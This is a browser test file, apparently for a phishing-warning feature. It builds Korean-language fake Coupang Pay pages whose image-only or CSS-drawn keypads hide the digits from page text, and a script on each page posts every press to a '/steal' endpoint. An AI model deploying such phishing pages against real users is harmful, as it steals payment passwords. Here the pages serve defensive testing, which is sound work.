import { beforeAll, expect, test } from 'vitest';
import { forEachBrowser, type Session, type Tab } from '../harness';
import { expectNoWarningFor, notWarned, startReady } from '../page-helpers';
import { attackSettled, expectPageWarning, stolen } from './kit';

/**
 * Red team 34, class C (an on-screen keypad whose digits are no text), with kits written apart from the red
 * team's: each page claims Coupang in one sentence (below the page warning's bar) and asks a payment password on
 * ten shuffled keys whose digits are pictures with no alt, or drawn by the stylesheet. The page's own script maps
 * a press to its digit and reports what it got (`/steal?got=`): the kit must get nothing before the warning; the
 * honest twin (a savings bank's own picture keypad, naming Coupang in passing) must get every press.
 */
const HOLD = [7, 2, 9, 0, 5, 3, 8, 1, 6, 4];

const page = (face: (d: number) => string, title: string, body: string, css = '') =>
  `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>${title}</title><style>${css}</style><script>
window.got = function (v) { try { fetch('/steal?got=' + encodeURIComponent(v), { method: 'POST', keepalive: true }); } catch (e) {} };
</script></head><body><section style="width:480px;margin:30px auto">${body}<div id="out" style="height:30px;border:1px solid #aaa"></div>` +
  `<div id="keys" style="display:grid;grid-template-columns:repeat(4,64px);gap:6px">` +
  HOLD.map(
    (d, i) => `<button type="button" id="p${i}" data-v="${d}" style="height:48px">${face(d)}</button>`,
  ).join('') +
  `</div></section><script>
var s = ''; document.querySelectorAll('#keys button').forEach(function (b) { b.addEventListener('click', function () { s += b.getAttribute('data-v'); document.getElementById('out').textContent = s.replace(/./g, '●'); got('pad:' + s); }); });
setTimeout(function () { fetch('/steal?ready=1', { method: 'POST' }); }, 300);
</script></body></html>`;
const picture = (d: number) =>
  `<img src="data:image/svg+xml,${encodeURIComponent(`<svg xmlns="http://www.w3.org/2000/svg" width="30" height="30"><text x="9" y="22" font-size="20">${d}</text></svg>`)}">`;

const CLAIM =
  '<p>쿠팡페이 안전결제 센터입니다. 결제 보호를 위해 쿠팡페이 결제 비밀번호 6자리를 입력해 주세요.</p>';
const BANK =
  '<header><b>한솔저축은행</b></header><h2>한솔저축은행 간편 로그인</h2><p>간편비밀번호 6자리를 보안 키패드로 눌러 주세요. 쿠팡 등 간편결제에 연결한 계좌도 로그인 후 관리할 수 있습니다.</p>';
const BANK_END = '<footer>© 한솔저축은행. 사업자등록번호 101-81-24680</footer>';

const KITS: [name: string, host: string, html: string][] = [
  ['pictures of digits with no alt', 'pay-safe-p1.example.test', page(picture, '결제 확인', CLAIM)],
  [
    'digits drawn by the stylesheet from an attribute',
    'pay-safe-p2.example.test',
    page(() => '', '결제 확인', CLAIM, '#keys button::before{content:attr(data-v);font-size:20px}'),
  ],
];

async function press(tab: Tab, ids: string[]): Promise<void> {
  for (const id of ids) {
    const at = await tab
      .evaluate((s: string) => {
        const r = document.getElementById(s)?.getBoundingClientRect();
        return r && r.width > 0 ? { x: r.left + r.width / 2, y: r.top + r.height / 2 } : null;
      }, id)
      .catch(() => null);
    if (at) await tab.mouseClick(at.x, at.y).catch(() => undefined);
    await new Promise((r) => setTimeout(r, 120));
  }
}
// (7, 2, 9, 0: the first four keys as shuffled)
const FOUR = ['p0', 'p1', 'p2', 'p3'];

const got = (ctx: { server: Parameters<typeof stolen>[0] }, host: string) =>
  stolen(ctx.server, host, 'got').map((r) => decodeURIComponent(r.path.slice('/steal?got='.length)));

forEachBrowser('hostile: a keypad whose digits are no text (red team 34, class C)', (ctx) => {
  let s: Session;
  beforeAll(async () => {
    s = await startReady(ctx);
  });

  for (const [name, host, html] of KITS)
    test(`${name}: the first press is held and the page warned`, async () => {
      ctx.server.page(host, '/pay', html);
      const tab = await s.newTab(ctx.server.url(host, '/pay'));
      await tab.bringToFront();
      await attackSettled(s, tab, ctx.server, host);
      // the user reads the page first: the claim stays below the page warning's bar
      await new Promise((r) => setTimeout(r, 3_000));
      expect(await notWarned(s, tab)).toBe(true);
      await press(tab, FOUR);
      await new Promise((r) => setTimeout(r, 1_000));
      expect(got(ctx, host)).toEqual([]);
      const w = await expectPageWarning(s, tab);
      expect(w.kind).toBe('suspicious-page');
      await tab.close();
    });

  test('honest: a savings bank’s own picture keypad gets every press, not warned', async () => {
    const host = 'www.hansol-bank-p3.example.test';
    ctx.server.page(
      host,
      '/login',
      page(picture, '한솔저축은행 로그인', BANK).replace('</section>', `${BANK_END}</section>`),
    );
    const tab = await s.newTab(ctx.server.url(host, '/login'));
    await tab.bringToFront();
    await attackSettled(s, tab, ctx.server, host);
    await press(tab, FOUR);
    await new Promise((r) => setTimeout(r, 1_000));
    expect(got(ctx, host).join(' ')).toMatch(/pad:7290/);
    await expectNoWarningFor(tab, 1_500);
    await tab.close();
  });
});
